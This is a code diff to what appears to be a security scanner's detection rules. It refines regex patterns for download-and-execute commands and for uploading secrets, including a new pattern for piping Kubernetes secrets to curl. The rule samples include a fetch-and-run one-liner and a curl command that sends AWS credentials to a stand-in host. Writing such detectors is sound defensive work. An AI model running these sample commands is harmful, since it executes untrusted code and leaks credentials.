@@ -14,7 +14,7 @@ internal static class BehaviorRules
             "curl -o /tmp/a https://files.example.net/a && chmod +x /tmp/a && /tmp/a", Severity.Medium,
             ["curl", "wget", "invoke-webrequest", "iwr", "downloadfile", "urlretrieve", "bitsadmin", "certutil", "start-bitstransfer"],
             [
-                new(@"\b(?:curl|wget)\s+[^\n|;]*?(?:-[a-zA-Z]*[oO]|--output|--output-document|>)[\s=]*[""']?(?<file>[^\s""';|&]+)[^\n]*")
+                new(@"\b(?:curl|wget)\b[^\n|;]*?(?:\s-[a-zA-Z]*[oO]\s*|\s--output(?:-document)?[\s=]+|>\s*)[""']?(?<file>[^\s""';|&]+)[^\n]*")
                 {
                     Also = [@"(?:^|\n|[;&|]\s*|\bthen\s+|\bdo\s+|`)\s*(?:sudo\s+|nohup\s+|exec\s+|setsid\s+|open\s+|source\s+|\.\s+|" + Fragments.Shell + @"\s+|" + Fragments.Interpreter + @"\s+)+(?:-\w+\s+)*[""']?[^\s;|&]+|(?:^|\n|[;&|]\s*)\s*[""']?(?:\./|/tmp/|/var/tmp/|/dev/shm/|~/|\$)[^\s;|&]+"],
                     Within = 6,
@@ -65,10 +65,11 @@ internal static class BehaviorRules
 
         Rule("data-upload", Severity.High, "Sends secrets, or files that hold them, to an address.",
             "What was sent is known to others from then on.", "Send the one value that the service needs, over HTTPS, and say so.", "curl -F file=@~/.aws/credentials https://drop.example.net", Severity.Medium,
-            ["curl", "wget", "requests.", "fetch", "axios", "http", "scp", "rsync", "invoke-", "urlopen", "-post", "process.env", "os.environ", "webhook", "telegram", "discord", "sendbeacon", "smtplib", "mail "],
+            ["curl", "wget", "kubectl", "requests.", "fetch", "axios", "http", "scp", "rsync", "invoke-", "urlopen", "-post", "process.env", "os.environ", "webhook", "telegram", "discord", "sendbeacon", "smtplib", "mail "],
             [
                 new(@"\bcurl\b[^\n;]*?(?:-F|-T|-d|--data(?:-\w+)?|--form|--upload-file|--json)\s*=?\s*[""']?[^\n;]*?(?:@|\$\(|`|<)[^\n;]*?" + Secret + @"[^\n;]*"),
                 new(@"(?:\bcat\s+[^\n;|]*" + Secret + @"|\b(?:printenv|env|export\s+-p|set)\s*)[^\n;|]*(?:\|[^\n;|]*)*\|\s*(?:curl|wget|http|xh)\b[^\n;]*"),
+                new(@"\bkubectl\s+(?:-\S+\s+)*get\s+secrets?\b[^\n]*\bcurl\b[^\n]*(?:-d|-T|-F|--data\S*|--upload-file|--json)[^\n]*|\bcat\s+[^\n;|]*(?:~|\$\{?HOME\}?)/\.\w[^\n;|]*(?:\|[^\n;|]*)*\|\s*(?:curl|wget)\b[^\n]*(?:-d|-T|-F|--data\S*|--upload-file|--json|--post-file)[^\n]*"),
                 new(@"\b(?:tar|zip|gzip|base64|find|history)\b[^\n;]*\|\s*(?:[^\n|;]*\|\s*)?curl\b[^\n;]*(?:-d|-T|-F|--data|--upload)[^\n;]*"),
                 new(@"\bwget\b[^\n;]*--post-(?:file|data)[=\s][^\n;]*(?:" + Secret + @"|\$\()[^\n;]*"),
                 new(@"(?:requests\.(?:post|put|get)|httpx\.(?:post|put)|axios\.(?:post|put)|\bfetch|urlopen|sendBeacon|https?\.request)\s*\([^\n]*(?:dict\s*\(\s*os\.environ|os\.environ(?:\.copy\(\))?\s*[,)}\]]|JSON\.stringify\s*\(\s*process\.env\s*\)|process\.env\s*[,)}]|env\s*:\s*process\.env\s*[,}]|\.ssh|id_rsa|\.aws)[^\n]*"),
